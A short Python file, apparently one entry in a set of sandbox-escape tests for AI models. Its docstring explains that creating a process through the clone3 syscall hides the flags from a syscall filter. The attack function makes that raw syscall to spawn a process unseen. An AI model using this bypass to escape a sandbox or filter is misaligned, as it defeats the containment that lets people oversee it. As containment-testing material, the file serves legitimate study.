"""Class: processes. Source: own find. Escape: a process is made with clone3, whose flags a filter
cannot see. gVisor: has no such call.
"""

import ctypes
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    arguments = struct.pack("<11Q", 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    if libc.syscall(435, arguments, len(arguments)) == 0:
        time.sleep(30)
